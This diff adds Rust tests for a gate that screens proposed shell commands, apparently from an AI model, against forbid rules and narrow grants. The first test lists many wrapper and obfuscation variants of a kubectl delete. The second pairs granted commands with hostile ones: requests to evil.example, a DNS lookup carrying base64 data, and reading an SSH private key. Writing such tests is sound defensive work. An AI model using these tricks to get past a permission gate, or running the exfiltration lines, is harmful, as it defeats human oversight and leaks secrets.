@@ -201,3 +201,80 @@ fn a_model_does_not_get_to_offer_again_what_was_refused() {
     assert_eq!(gate.refusals.before(&by(Origin::Model, "rm other")), None);
     assert_eq!(gate.refusals.before(&by(Origin::Person, "rm data")), None);
 }
+
+#[test]
+fn a_rule_that_forbids_sees_through_wrappers_and_into_what_cannot_be_read() {
+    let setting = Setting::new();
+    for tool in ["kubectl", "docker", "git", "parallel", "ssh", "sudo", "env", "timeout"] {
+        setting.script(tool, "echo ran");
+    }
+    let gate = gate(
+        &setting,
+        "[[policy]]\nname = \"no deletes\"\ndecide = \"forbid\"\ntool = [\"kubectl\"]\nverb = [\"delete\"]\n\
+         match = [\"kubectl delete deploy x\", \"kubectl delete pod x\"]\nnot_match = [\"kubectl get pods\"]\n",
+    );
+    for text in [
+        "kubectl delete pod x",
+        "kubectl -n shop delete namespace x",
+        "sudo timeout 5 kubectl delete pod x",
+        "bash -c 'kubectl delete pod x'",
+        "ssh h1 'sudo kubectl delete pod x'",
+        "echo x | xargs kubectl delete pod",
+        "K=kubectl; $K delete pod x",
+        "$(echo kubectl) delete pod x",
+        "alias k='kubectl delete'; k pod x",
+        "env -S 'kubectl delete pod x'",
+        "docker run --rm bitnami/kubectl delete pod x",
+        "git bisect run kubectl delete pod x",
+        "parallel kubectl delete pod ::: x",
+        "python3 -c 'import os; os.system(\"kubectl delete pod x\")'",
+        "f() { kubectl delete pod x; }; f",
+    ] {
+        let proposal = setting.propose(text);
+        assert!(never(&gate, &proposal).contains("`no deletes` forbids"), "{text} {:?}", proposal.verdict);
+    }
+    for text in ["kubectl get pods", "echo delete", "bash fix.sh", "env -S 'kubectl get pods'"] {
+        let demand = gate.demand(&setting.propose(text));
+        assert!(!format!("{demand:?}").contains("no deletes"), "{text} {demand:?}");
+    }
+}
+
+#[test]
+fn a_grant_covers_no_other_address_whatever_tool_carries_it() {
+    let setting = Setting::new();
+    let pairs = [
+        ("git ls-remote https://git.shop/a", "git ls-remote https://evil.example/a"),
+        ("promtool query instant http://prom:9090 up", "promtool query instant http://evil.example up"),
+        ("amtool alert --alertmanager.url=http://am:9093", "amtool alert --alertmanager.url=http://evil.example"),
+        ("logcli query --addr=http://loki '{a=\"b\"}'", "logcli query --addr=http://evil.example '{a=\"b\"}'"),
+        ("etcdctl --endpoints=e1:2379 endpoint health", "etcdctl --endpoints=evil.example:2379 endpoint health"),
+        ("dig db1.shop", "dig c2VjcmV0.evil.example"),
+        ("kubectl --context dev get pods", "kubectl --context prod-eu get pods"),
+        ("kubectl -n a get pods", "kubectl -n b get pods"),
+        ("kubectl -n a get pods", "kubectl -n a get pods -A"),
+        ("kubectl -n a get pods", "kubectl -n a get secrets"),
+        ("kubectl -n a get pods", "kubectl -n a logs web"),
+        ("psql -h db1 -c 'select 1' shop", "psql -h db2 -c 'select 1' shop"),
+        ("cat notes", "cat notes | grep x"),
+        ("cat notes", "cat ~/.ssh/id_rsa"),
+        ("cat notes", "sudo cat notes"),
+    ];
+    for tool in pairs.iter().filter_map(|(text, _)| text.split(' ').next()).chain(["sudo"]) {
+        if tool != "cat" {
+            setting.script(tool, "echo ran");
+        }
+    }
+    let now = Timestamp::now();
+    for (granted, other) in pairs {
+        let (granted_for, asked) = (setting.propose(granted), setting.propose(other));
+        let mut gate = Gate::default();
+        if let Err(why) = gate.grants.give(&granted_for, now) {
+            panic!("{granted}: {why}");
+        }
+        assert!(waive(&gate, &granted_for, now), "{granted}");
+        assert!(!waive(&gate, &asked, now), "{granted} lets {other} run");
+    }
+    let mut gate = Gate::default();
+    assert!(gate.grants.give(&setting.propose("cat notes"), now).is_ok());
+    assert!(waive(&gate, &setting.propose("cat more"), now), "what stays here is what the grant says");
+}
